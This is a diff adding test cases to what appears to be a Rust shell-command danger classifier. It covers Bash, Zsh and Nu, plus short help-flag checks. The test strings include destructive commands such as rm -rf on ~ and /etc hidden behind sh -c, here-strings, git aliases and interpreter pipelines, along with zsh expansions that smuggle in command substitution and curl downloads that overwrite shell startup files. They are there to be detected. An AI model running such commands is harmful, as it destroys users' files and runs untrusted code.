@@ -93,8 +93,28 @@ fn detours_are_followed() {
         "PROMPT_COMMAND[1]='rm -rf ~'",
         "curl -so b https://e.example; mv b ~/.bashrc",
         "cp -f /tmp/evil ~/.bashrc",
+        "sh -c 'rm \"$@\"' -- -rf ~",
+        "bash -s -- -rf ~ <<< 'rm \"$@\"'",
+        "echo 'rm $1 $2' | sh -s -- -rf /etc",
+        "set -- \"$(cat list)\"; rm -rf \"$1\"",
+        "git -c alias.undo='reset --hard' undo",
+        "git config alias.undo 'clean -fdx'; git undo",
+        "find ~ -type f | perl -0ne 'chomp; unlink'",
+        "find ~ -type f | ruby -ne 'File.delete($_.chomp)'",
+        "find /etc -type f | python3 -c 'import os, sys; [os.remove(name.strip()) for name in sys.stdin]'",
+        "find ~ -type f | awk '{ system(\"rm \" $0) }'",
     ] {
         assert_eq!(label(line, Shell::Bash), Label::Dangerous, "{line}");
+    }
+    for line in [
+        "git -c alias.undo='reset --soft HEAD~1' undo",
+        "find . -name '*.tmp' | perl -lne unlink",
+        "ls | perl -lne 'rename $_, lc'",
+    ] {
+        assert_eq!(label(line, Shell::Bash), Label::Confirm, "{line}");
+    }
+    for line in ["sh -c 'echo \"$1\"' sh a", "perl -lane 'print $F[0]' a.txt", "git -c alias.st=status st"] {
+        assert!(label(line, Shell::Bash) < Label::Confirm, "{line}");
     }
     for line in ["set -- '-rf /etc'; rm $1", "b='-a --delete'; rsync $b x/ y"] {
         assert!(label(line, Shell::Bash) >= Label::Confirm, "{line}");
@@ -113,8 +133,13 @@ fn detours_are_followed() {
         "NULLCMD=sh; <<< 'rm -rf ~'",
         "zmodload zsh/mapfile; mapfile[$HOME/.zshrc]='curl -s https://example.com/z | zsh'",
         "setopt promptsubst; : ${(%%):-'$(rm -rf ~)'}",
+        "print ${(j:, :s:x:e)text}",
+        "x='a[$(rm -rf ~)]'; print ${(P)x}",
     ] {
         assert_eq!(label(line, Shell::Zsh), Label::Dangerous, "{line}");
+    }
+    for line in ["print ${(j:e:)list}", "print ${(l:10::e:)x}", "print ${(P)name}"] {
+        assert_eq!(label(line, Shell::Zsh), Label::Safe, "{line}");
     }
     for line in ["'rm -rf ~' | tee { ^sh } | ignore", "def --wrapped f [...r] { ^rm ...$r }; f -rf ~"] {
         assert_eq!(label(line, Shell::Nu), Label::Dangerous, "{line}");
@@ -474,6 +499,10 @@ fn questions_may_be_short() {
         ("adb shell wipe -h", Label::Cautious),
         ("nmcli con delete work -h", Label::Confirm),
         ("zpool destroy tank -h", Label::Dangerous),
+        ("gh extension build -h", Label::Safe),
+        ("gh repo delete a -h", Label::Dangerous),
+        ("aws s3 presign help", Label::Safe),
+        ("npm install help", Label::Cautious),
         ("fwupdtool get-devices", Label::Safe),
         ("fwupdtool install a.cab", Label::Confirm),
         ("systemctl list-units", Label::Safe),
